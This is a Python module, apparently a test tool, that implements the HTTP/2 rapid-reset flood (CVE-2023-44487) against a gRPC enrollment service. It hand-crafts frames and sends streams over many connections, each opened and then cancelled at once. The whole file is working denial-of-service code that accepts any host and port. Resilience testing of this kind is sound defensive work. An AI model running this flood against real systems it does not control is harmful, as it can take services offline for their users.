"""An HTTP/2 rapid-reset flood (CVE-2023-44487): on each of N connections, as fast as the
socket takes them, a GetStudent call's HEADERS and DATA, then RST_STREAM(CANCEL) at once.
Each costs the sender a few bytes and the server a call it must set up, start and tear
down. Run it as a process of its own, so that its sending does not share a GIL with what
it is measured against:

    python -m tests.h2flood HOST PORT CONNECTIONS SECONDS

It prints the number of streams sent. The frames are written by hand (RFC 9113, and
RFC 7541's literal header fields without indexing), so it needs nothing installed.
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0x0, 0x1, 0x3, 0x4
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
BATCH = 100  # streams written with one sendall


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    header = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return header + struct.pack(">I", stream) + payload


def _string(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 127  # one-byte length, no Huffman
    return bytes([len(data)]) + data


def header_block(authority: str, path: str) -> bytes:
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers"),
    ]  # fmt: skip
    # 0x00: a literal field without indexing, its name given as a string.
    return b"".join(b"\x00" + _string(name) + _string(value) for name, value in fields)


def _drain(sock: socket.socket) -> None:
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass


def flood(host: str, port: int, seconds: float, sent: list[int]) -> None:
    block = header_block(f"{host}:{port}", "/enrollment.v1.EnrollmentService/GetStudent")
    body = b"\x00" + struct.pack(">I", 2) + b"\x08\x01"  # a framed GetStudentRequest(1)
    reset = struct.pack(">I", CANCEL)
    sock = socket.create_connection((host, port))
    threading.Thread(target=_drain, args=(sock,), daemon=True).start()
    stream, end = 1, time.monotonic() + seconds
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b""))
        while time.monotonic() < end and stream < 2**31 - 2 * BATCH:
            chunk = []
            for _ in range(BATCH):
                chunk += [
                    frame(HEADERS, END_HEADERS, stream, block),
                    frame(DATA, END_STREAM, stream, body),
                    frame(RST_STREAM, 0, stream, reset),
                ]
                stream += 2
            sock.sendall(b"".join(chunk))
            sent.append(BATCH)
    except OSError:
        pass  # the server closed the connection: that ends this one's flood
    finally:
        sock.close()


def main(argv: list[str]) -> int:
    host, port, connections, seconds = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    sent: list[int] = []
    threads = [
        threading.Thread(target=flood, args=(host, port, seconds, sent)) for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(sent))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
